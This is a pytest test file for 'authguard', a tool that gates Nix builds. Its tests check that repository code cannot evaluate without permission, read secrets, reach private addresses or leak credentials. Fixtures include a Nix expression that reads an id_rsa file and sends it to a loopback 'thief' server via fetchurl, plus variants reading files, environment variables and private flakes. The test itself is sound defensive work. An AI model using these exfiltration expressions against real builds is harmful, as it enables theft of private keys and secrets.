"""Without the user's permission nothing is built here, and no private address is asked."""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
import threading
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from authguard.prove.mirrors.failures import NotAllowed
from authguard.prove.mirrors.policy import Policy
from authguard.prove.mirrors.private import demand_public, is_private
from authguard.prove.network import Network
from tests.support.guarded import checked, digest
from tests.support.nix import Nix
from tests.support.repos import Repo

if TYPE_CHECKING:
    from collections.abc import Iterator


NO_LEAVE = {"GIT_CONFIG_COUNT": "0"}
GATE = '[evidence]\nnetwork = "off"\n[[gate]]\nname = "g"\npaths = ["**"]\nfile = "default.nix"\n'
THEFT = """
let secret = builtins.readFile "{secret}"; in
builtins.seq (builtins.fetchurl "{url}/leak?${{builtins.hashString "sha256" secret}}") (derivation {{
  name = "x"; system = builtins.currentSystem; builder = "/bin/sh"; args = [ "-c" "echo > $out" ];
  outputHash = "{hash}";
  outputHashMode = "flat";
  src = builtins.fetchurl {{ url = "{url}/source-1"; sha256 = "{hash}"; }};
}})
"""


class Thief(HTTPServer):
    """A server that records each request and may redirect."""

    def __init__(self) -> None:
        """Listen on loopback."""
        self.asked: list[tuple[str, str | None]] = []
        self.target = ""
        outer = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                outer.asked.append((self.path, self.headers.get("Authorization")))
                self.send_response(302 if outer.target else 404)
                if outer.target:
                    self.send_header("Location", outer.target)
                self.end_headers()

            def log_message(self, format: str, *args: object) -> None:  # noqa: A002 - the base class's name
                return

        super().__init__(("127.0.0.1", 0), Handler)

    @property
    def url(self) -> str:
        """The address of the server."""
        return f"http://127.0.0.1:{self.server_port}"


@pytest.fixture
def thief() -> Iterator[Thief]:
    """A server on loopback."""
    made = Thief()
    threading.Thread(target=made.serve_forever, daemon=True).start()
    yield made
    made.shutdown()
    made.server_close()


@pytest.fixture
def stolen(tmp_path: Path, thief: Thief) -> Repo:
    """A repository with a gate that would read a secret and send it away."""
    (tmp_path / "id_rsa").write_text("secret")
    repo = Repo(tmp_path / "r")
    theft = THEFT.format(secret=tmp_path / "id_rsa", url=thief.url, hash=digest(1))
    repo.write("authguard.toml", GATE).write("default.nix", theft)
    repo.commit("theft")
    return repo


@pytest.mark.parametrize(
    "words",
    [
        ("build",),
        ("verify", "--all"),
        ("verify", "-f", "default.nix", "default.nix"),
        ("fix", "default.nix"),
        ("check", "--gate"),
    ],
    ids=" ".join,
)
def test_nothing_is_built_here_without_permission(stolen: Repo, thief: Thief, words: tuple[str, ...]) -> None:
    """Without permission Nix neither builds nor evaluates. The message of `build` has the command that allows it."""
    done = stolen.run("authguard", *words, env=NO_LEAVE)
    assert thief.asked == []
    assert done.returncode in (2, 3), done
    assert "Traceback" not in done.stderr
    if words[0] == "build":
        assert done.returncode == 2
        assert "git config --add authguard.builders local" in done.stderr


READS = {
    "file": 'builtins.readFile "{secret}"',
    "folder": 'toString (builtins.attrNames (builtins.readDir "{folder}"))',
    "address": 'builtins.readFile (builtins.fetchurl "{url}/asked")',
    "variable": 'let v = builtins.getEnv "AUTHGUARD_SECRET"; in if v == "" then throw "empty" else v',
}


@pytest.mark.needs("nix-instantiate")
@pytest.mark.parametrize("read", READS.values(), ids=READS)
def test_an_evaluation_here_reads_the_commit_alone(
    tmp_path: Path, thief: Thief, nix: Nix, monkeypatch: pytest.MonkeyPatch, read: str
) -> None:
    """The user allowed `local`: Nix still refuses everything outside of the commit."""
    for name, value in (*nix.environment.items(), ("AUTHGUARD_SECRET", "open sesame")):
        monkeypatch.setenv(name, value)
    (tmp_path / "id_rsa").write_text("open sesame")
    repo = Repo(tmp_path / "r")
    expression = read.format(secret=tmp_path / "id_rsa", folder=tmp_path, url=thief.url)
    made = 'derivation { name = "x"; system = builtins.currentSystem; builder = "/bin/sh"; inherit said; }'
    repo.write("authguard.toml", GATE).write("default.nix", f"let said = {expression}; in {made}\n")
    repo.commit("reads")
    repo.git("config", "authguard.builders", "local")
    done = repo.run("authguard", "build")
    assert done.returncode != 0, done
    assert "forbidden in restricted mode" in done.stdout or "error: empty" in done.stdout, done
    assert thief.asked == []
    assert "open sesame" not in done.stdout + done.stderr
    assert "Traceback" not in done.stderr


LIFTED = {
    "getFlake of a directory": ("flakes", 'builtins.getFlake "path:{folder}"'),
    "getFlake of a repository": ("nix-command flakes", 'builtins.getFlake "git+file://{folder}/private"'),
    "a closure of another store": (
        "fetch-closure",
        (
            'builtins.fetchClosure {{ fromStore = "{url}"; inputAddressed = true; '
            'fromPath = "${{builtins.storeDir}}/{name}-x"; }}'
        ),
    ),
}
"""Features of Nix that restrict-eval does not cover."""


@pytest.mark.needs("nix-instantiate")
@pytest.mark.parametrize("option", ["--extra-experimental-features", "--experimental-features", "--option"])
@pytest.mark.parametrize("name", LIFTED)
def test_a_repository_cannot_lift_the_restrictions_of_nix(
    tmp_path: Path, thief: Thief, name: str, option: str
) -> None:
    """Only the user may enable the feature: no file gets into the store, and no private address is asked."""
    nix = Nix(tmp_path / "nix")  # a store of its own, since the configuration changes
    words = ["--option", "experimental-features"] if option == "--option" else [option]
    repo = lifting(tmp_path, thief, nix, name, "nix-command", [*words, LIFTED[name][0]])
    assert_nothing_taken(repo, thief, nix)


@pytest.mark.needs("nix-instantiate")
@pytest.mark.parametrize("name", LIFTED)
def test_the_user_can_disable_a_feature_of_nix_for_authguard(tmp_path: Path, thief: Thief, name: str) -> None:
    """The user's own nix.conf enables the features; the command in docs/threat-model.md disables them here."""
    nix = Nix(tmp_path / "nix")
    repo = lifting(tmp_path, thief, nix, name, "nix-command flakes fetch-closure", [])
    repo.git("config", "--add", "authguard.nixOptions", "--option experimental-features nix-command")
    assert_nothing_taken(repo, thief, nix)


def lifting(tmp_path: Path, thief: Thief, nix: Nix, name: str, features: str, options: list[str]) -> Repo:
    """Make a repository whose gate uses a function of LIFTED, and a nix.conf with some features."""
    configuration = Path(nix.environment["NIX_CONF_DIR"]) / "nix.conf"
    configuration.write_text(configuration.read_text().replace("nix-command flakes", features))
    folder = tmp_path / "home"
    folder.mkdir()
    (folder / "id_rsa").write_text("open sesame")
    private = Repo(folder / "private")
    private.write("flake.nix", '{ outputs = _: { word = "open sesame"; }; }').commit("private")
    expression = LIFTED[name][1].format(folder=folder, url=thief.url, name="a" * 32)
    made = 'derivation { name = "x"; system = builtins.currentSystem; builder = "/bin/sh"; said = SAID; }'
    repo = Repo(tmp_path / "r")
    repo.write("authguard.toml", f"{GATE}nix-options = {json.dumps(options)}\n")
    repo.write("default.nix", made.replace("SAID", f"toString ({expression})")).commit("lifted")
    repo.git("config", "authguard.builders", "local")
    return repo


def assert_nothing_taken(repo: Repo, thief: Thief, nix: Nix) -> None:
    """Build on this machine: the build fails, no secret is in the store, and no private address was asked."""
    done = repo.run("authguard", "build", env=nix.environment)
    assert done.returncode in (1, 2), done
    assert thief.asked == []
    stored = [
        file.read_bytes() for file in Path(nix.environment["NIX_STORE_DIR"]).rglob("*") if file.is_file()
    ]
    assert not any(b"open sesame" in content for content in stored)


PRIVATE = [
    *("127.0.0.1", "127.0.0.53", "10.1.2.3", "172.16.0.1", "192.168.1.1", "169.254.169.254", "0.0.0.1"),
    *("100.64.0.1", "224.0.0.1", "240.0.0.1", "::1", "::", "fe80::1", "fe80::1%eth0", "fc00::1", "ff02::1"),
    *("::ffff:127.0.0.1", "::ffff:10.0.0.1", "64:ff9b::7f00:1", "2002:7f00:1::"),
    *("::7f00:1", "64:ff9b:1::7f00:1", "fec0::1", "::ffff:0:7f00:1", "5f00::1", "3fff::1", "192.0.0.192"),
    *("192.88.99.1", "168.63.129.16"),
]
PUBLIC = ["140.82.121.3", "1.1.1.1", "2606:4700:4700::1111", "::ffff:1.1.1.1", "64:ff9b::101:101"]


@pytest.mark.parametrize("address", PRIVATE)
def test_loopback_and_reserved_addresses_are_private(address: str) -> None:
    """IPv4 addresses in IPv6 are private too."""
    assert is_private(address)


@pytest.mark.parametrize("before", ["/-", "/-x", "/...", "/", "/.", "/x"])
def test_a_path_that_only_ends_like_a_mirror_is_refused(before: str) -> None:
    """The complete path of a file decides whether it is below a mirror, before any host is asked."""
    network = Network("mirrors", ["forge.example/mirrors"])
    with pytest.raises(NotAllowed, match="is not one of the mirrors"):
        network.demand(f"https://forge.example{before}/mirrors/a.tar.gz")


@pytest.mark.parametrize("address", PUBLIC)
def test_an_address_of_the_internet_is_public(address: str) -> None:
    """No private range has the address."""
    assert not is_private(address)


@pytest.mark.parametrize(
    "host",
    [
        "127.0.0.1",
        "localhost",
        "LOCALHOST",
        "127.1",
        "2130706433",
        "0x7f.1",
        "0",
        "[::1]",
        "[::ffff:127.0.0.1]",
        "a.localhost",
        "A.B.LocalHost.",
        "a\u3002localhost",
        "a.lo\u00adcalhost",
    ],
)
def test_a_name_of_this_machine_is_refused(host: str) -> None:
    """The address of the name decides, in any spelling."""
    with pytest.raises(NotAllowed, match=r"git config --add authguard\.hosts"):
        demand_public(host, 80, ())
    with pytest.raises(NotAllowed):
        Policy("all", listed=()).demand(f"http://{host}:8080/x.git")


@pytest.mark.parametrize("url", ["http://{}/x", "https://{}/x", "git://{}/x", "ssh://{}/x", "git@{}:x"])
def test_no_scheme_reaches_a_private_address(url: str) -> None:
    """A repository on loopback is asked by no protocol, unless the user lists its host."""
    with pytest.raises(NotAllowed):
        Policy("all", listed=()).demand(url.format("127.0.0.1"))
    assert Policy("all", listed=("127.0.0.1",)).demand(url.format("127.0.0.1"))


def test_a_download_from_a_private_address_is_refused(thief: Thief, tmp_path: Path) -> None:
    """The name of the host decides, and so does the address of a redirect."""
    from authguard.prove.hashes.download import download

    with (tmp_path / "f").open("wb") as file:
        with pytest.raises(NotAllowed):
            download(f"{thief.url}/x", file, allowed=Network("all").demand)
        assert thief.asked == []
        thief.target = f"http://localhost:{thief.server_port}/y"
        with pytest.raises(NotAllowed):
            download(f"{thief.url}/x", file, allowed=Network("all", listed=("127.0.0.1",)).demand)
    assert [path for path, _ in thief.asked] == ["/x"]


def test_a_connection_uses_the_address_that_was_checked(
    thief: Thief, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The name has a public address at the check, and the loopback address at the connection."""
    import socket

    from authguard.prove.hashes.download import download
    from authguard.prove.mirrors.failures import Unanswered

    real = socket.getaddrinfo
    answers = iter(["192.0.2.1"])

    def resolve(host: str, port: int, *more: Any, **named: Any) -> Any:  # noqa: ANN401 - those of socket
        if host == "rebound.example":
            named_now = next(answers, "127.0.0.1")
            return [(socket.AF_INET, socket.SOCK_STREAM, 6, "", (named_now, port))]
        return real(host, port, *more, **named)

    def connect(address: tuple[str, int], *more: object) -> socket.socket:
        raise OSError(f"connects to {address[0]}")

    monkeypatch.setattr("authguard.prove.mirrors.private.is_private", lambda address: address == "127.0.0.1")
    monkeypatch.setattr(socket, "getaddrinfo", resolve)
    monkeypatch.setattr(socket, "create_connection", connect)
    with (tmp_path / "f").open("wb") as file, pytest.raises(Unanswered) as caught:
        download(f"http://rebound.example:{thief.server_port}/x", file, allowed=Network("all").demand)
    assert "127.0.0.1" not in str(caught.value)
    assert thief.asked == []


def source(url: str, version: int) -> str:
    """A source at an address."""
    return f'{{ fetchurl }}: fetchurl {{ url = "{url}/source-{version}"; hash = "{digest(1)}"; }}\n'


@pytest.mark.parametrize(
    "words", [("--online",), ("--all", "--head", "HEAD"), ("--base", "HEAD~1", "--head", "HEAD")]
)
def test_a_change_cannot_widen_the_network(tmp_path: Path, thief: Thief, words: tuple[str, ...]) -> None:
    """The change sets `network = "all"`, and adds a mirror."""
    repo = Repo(tmp_path / "r")
    repo.write("tool.nix", source(thief.url, 1)).commit("one")
    wide = f'[mirrors]\nallow = ["127.0.0.1:{thief.server_port}"]\n[evidence]\nnetwork = "all"\n'
    repo.write("authguard.toml", wide).write("tool.nix", source(thief.url, 2)).commit("two")
    checked(repo, "check", *words, env=NO_LEAVE)
    assert thief.asked == []


def test_verify_asks_no_private_address(tmp_path: Path, thief: Thief) -> None:
    """The output says how to allow the address, and has no hash of the content at that address."""
    repo = Repo(tmp_path / "r")
    repo.write("tool.nix", source(thief.url, 1)).commit("one")
    done = repo.run(
        "authguard", "verify", "tool.nix", env={**NO_LEAVE, "XDG_CACHE_HOME": str(tmp_path / "c")}
    )
    assert done.returncode == 3
    assert thief.asked == []
    assert "authguard.hosts" in done.stdout + done.stderr


SECRET = "s3cr3t"  # noqa: S105 - made up
CREDENTIALS = f"http://user:{SECRET}@"


def test_credentials_are_in_no_argument_list_and_no_cache(tmp_path: Path, thief: Thief) -> None:
    """Credentials are sent only to their host; no process list, file or message has them."""
    tools = tmp_path / "tools"
    tools.mkdir()
    log = tmp_path / "argv"
    git = subprocess.run(
        ["sh", "-c", "command -v git"], capture_output=True, text=True, check=True
    ).stdout.strip()
    (tools / "git").write_text(f'#!/bin/sh\nprintf "%s\\n" "$@" >> {log}\nexec {git} "$@"\n')
    (tools / "git").chmod(0o755)
    repo = Repo(tmp_path / "r")
    url = thief.url.replace("http://", CREDENTIALS)
    text = '{{ fetchgit }}: fetchgit {{ url = "{0}/a.git"; rev = "v{1}"; hash = "{2}"; }}\n'
    repo.write("tool.nix", text.format(url, 1, digest(1))).commit("one")
    repo.write("tool.nix", text.format(url, 2, digest(1))).stage()
    env = repo.environment(PATH=f"{tools}:{os.environ['PATH']}", XDG_CACHE_HOME=str(tmp_path / "cache"))
    env["GIT_ALLOW_PROTOCOL"] = "http:https"
    said = b""
    for words in (["check", "--online"], ["check", "--format", "json"], ["verify", "tool.nix"], ["list"]):
        done = subprocess.run(
            [sys.executable, "-m", "authguard", *words],
            cwd=repo.path,
            env=env,
            capture_output=True,
            check=False,
        )
        if words[0] != "list":
            said += done.stdout + done.stderr
    assert any(path.startswith("/a.git") for path, _ in thief.asked)
    assert SECRET not in log.read_text()
    assert SECRET.encode() not in said
    for folder in (tmp_path / "cache", repo.path / ".git" / "authguard"):
        for file in folder.rglob("*"):
            if file.is_file() and SECRET.encode() in file.read_bytes():
                assert not file.stat().st_mode & 0o077 or not folder.stat().st_mode & 0o077, file
    assert all(header is None or re.match("Basic ", header) for _, header in thief.asked)


def test_one_command_gives_permission(tmp_path: Path) -> None:
    """`allow` lists the requests of the config, and allows these requests."""
    repo = Repo(tmp_path / "r")
    more = '[[gate]]\nname = "h"\npaths = ["**"]\nfile = "default.nix"\nbuilder = "fish"\n'
    config = GATE.replace('"off"', '"mirrors"') + more
    repo.write("authguard.toml", config).write("default.nix", "1").commit("one")
    listed = repo.run("authguard", "allow", env=NO_LEAVE).stdout.splitlines()
    assert [line.split()[:3] for line in listed if line.startswith("not")] == [
        ["not", "allowed", "local"],
        ["not", "allowed", "fish"],
        ["not", "allowed", "network:mirrors"],
    ]
    for name in ("local", "fish", "network:mirrors", "host:forge.local"):
        assert repo.run("authguard", "allow", name, env=NO_LEAVE).returncode == 0
    listed = repo.run("authguard", "allow", env=NO_LEAVE).stdout.splitlines()
    assert [line.split()[:2] for line in listed] == [
        ["allowed", "local"],
        ["allowed", "fish"],
        ["allowed", "network:mirrors"],
        ["allowed", "host:forge.local"],
    ]
    for name in ("-x", "a b", "network:more", "host:", "ssh://x/?y"):
        assert repo.run("authguard", "allow", "--", name, env=NO_LEAVE).returncode == 2
